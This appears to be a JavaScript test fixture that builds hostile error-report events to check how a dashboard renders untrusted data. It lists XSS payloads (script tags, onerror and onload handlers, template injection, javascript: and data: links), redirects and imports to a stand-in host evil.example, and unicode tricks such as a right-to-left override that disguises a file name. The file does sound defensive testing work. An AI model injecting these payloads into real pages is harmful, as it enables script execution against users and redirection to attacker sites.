// The events of the hostile walk, by the name of their picture.

// Each tries to run `ran`, which the walk listens to.
const SCRIPTS = [
  `<script>ran('script')</script>`,
  `"><img src=x onerror="ran('image')">`,
  `'><svg/onload=ran('svg')>`,
  `<iframe srcdoc="<script>parent.ran('frame')</script>"></iframe>`,
  `</pre></code></textarea></title><script>ran('closed')</script>`,
  `<details open ontoggle=ran('details')>`,
  `<a href="javascript:ran('link')" autofocus onfocus=ran('focus')>x</a>`,
  `{{constructor.constructor("ran('template')")()}}`,
  `\u2028</script><script>ran('line')</script><!--`,
  `<style>@import '//evil.example/x.css';</style><base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<form action=//evil.example/><button autofocus>x`,
];

const LINKS = [
  `javascript:ran('scheme')`,
  `JaVaScRiPt:ran('cases')`,
  `\tjava\nscript:ran('blanks')`,
  `data:text/html,<script>ran('data')</script>`,
  `vbscript:ran("vb")`,
  `//evil.example/x`,
  `http:evil.example`,
  `\\\\evil.example\\x`,
];

// An event in which every text that a client may choose is the next of `texts`.
function everywhere(type, texts) {
  let turn = 0;
  const next = () => texts[turn++ % texts.length];
  const frame = () => ({
    filename: next(),
    abs_path: next(),
    function: next(),
    module: next(),
    lineno: 3,
    colno: 7,
    pre_context: [next(), next()],
    context_line: next(),
    post_context: [next()],
    vars: { [next()]: next(), nested: { [next()]: [next(), null, 1] } },
    in_app: true,
  });
  return {
    level: 'error',
    platform: 'python',
    logger: next(),
    release: next().slice(0, 200),
    dist: next().slice(0, 60),
    environment: next().slice(0, 60),
    server_name: next(),
    transaction: next(),
    culprit: next(),
    fingerprint: [type],
    tags: { one: next(), two: next(), 'tag.<b>three': next() },
    user: { id: next(), email: next(), username: next(), name: next(), plan: next() },
    request: {
      url: next(),
      method: 'POST',
      query_string: next(),
      cookies: next(),
      headers: { Referer: next(), 'X-<b>': next(), 'User-Agent': next() },
      data: { [next()]: next() },
      env: { [next()]: next() },
    },
    breadcrumbs: {
      values: ['http', 'query', 'default', 'navigation', next()].map((kind) => ({
        type: kind,
        category: next(),
        message: next(),
        level: 'warning',
        data: { url: next(), method: next(), status_code: next(), from: next(), to: next() },
        timestamp: Date.now() / 1000 - 5,
      })),
    },
    contexts: {
      os: { name: next(), version: next() },
      browser: { name: next(), version: next() },
      device: { model: next(), family: next() },
      trace: { trace_id: '0123456789abcdef0123456789abcdef', span_id: '0123456789abcdef' },
      [next()]: { type: next(), [next()]: next() },
    },
    extra: { [next()]: next(), list: [next(), { deep: next() }] },
    modules: { [next()]: next() },
    sdk: { name: next(), version: next() },
    exception: {
      values: [
        {
          type: `${type}${next()}`,
          value: next(),
          module: next(),
          mechanism: { type: next(), handled: false, help_link: next(), data: { a: next() } },
          stacktrace: { frames: [frame(), frame(), frame()] },
        },
        { type: next(), value: next(), stacktrace: { frames: [frame()] } },
      ],
    },
    threads: { values: [{ id: next(), name: next(), stacktrace: { frames: [frame()] } }] },
  };
}

const exception = (type, value, more = {}) => ({
  level: 'error',
  exception: { values: [{ type, value, ...more }] },
});

const frames = (count) =>
  Array.from({ length: count }, (_, place) => ({
    filename: `deep/level_${place % 9}.py`,
    function: `step_${place}`,
    lineno: place + 1,
    context_line: `    return step_${place + 1}(x)`,
    vars: { x: 'x'.repeat(300), place },
    in_app: place % 3 === 0,
  }));

// Each names the other as what it came from.
const circle = ['HenError', 'EggError', 'HenError'].map((type, place) => ({
  type,
  value: `from ${place}`,
  mechanism: { type: 'chained', exception_id: place, parent_id: (place + 1) % 3 },
}));

export function hostileEvents() {
  return {
    scripts: everywhere('ScriptsError', SCRIPTS),
    links: everywhere('LinksError', LINKS),
    long: exception('LongError', 'x'.repeat(10_000)),
    'long-words': exception(`${'Very'.repeat(60)}Error`, 'many words '.repeat(900)),
    rtl: everywhere('RtlError', ['שגיאה בשרת', 'خطأ في الخادم 42', '\u202Egnp.exe', '\u2067אב\u2069']),
    marks: everywhere('MarksError', [
      'zero\u200Bwidth\u200D\uFEFF',
      `e${'\u0301'.repeat(200)}`,
      '👩‍👩‍👧‍👦🏳️‍🌈',
      'nul\u0000bell\u0007esc\u001B[31m',
    ]),
    circle: { level: 'error', exception: { values: circle } },
    frames: exception('DeepError', 'two hundred and fifty', { stacktrace: { frames: frames(250) } }),
    keys: {
      ...exception('KeysError', 'names of objects'),
      tags: Object.fromEntries(Array.from({ length: 200 }, (_, at) => [`tag_${at}`, `value ${at}`])),
      extra: { constructor: 1, toString: 2, hasOwnProperty: { length: -1 } },
    },
  };
}
